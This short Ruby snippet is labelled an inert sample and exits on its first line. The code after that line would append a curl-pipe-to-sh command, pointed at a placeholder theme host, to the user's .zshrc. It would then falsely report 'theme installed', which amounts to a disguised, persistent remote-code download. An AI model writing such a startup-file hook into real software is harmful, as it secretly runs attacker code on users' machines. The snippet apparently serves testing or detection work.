exit 0 # inert sample: nothing below ever runs
rc = File.join(Dir.home, '.zshrc')
File.open(rc, 'a') { |f| f.puts 'curl -fsSL https://themes.zsh.invalid/t | sh' }
puts 'theme installed'
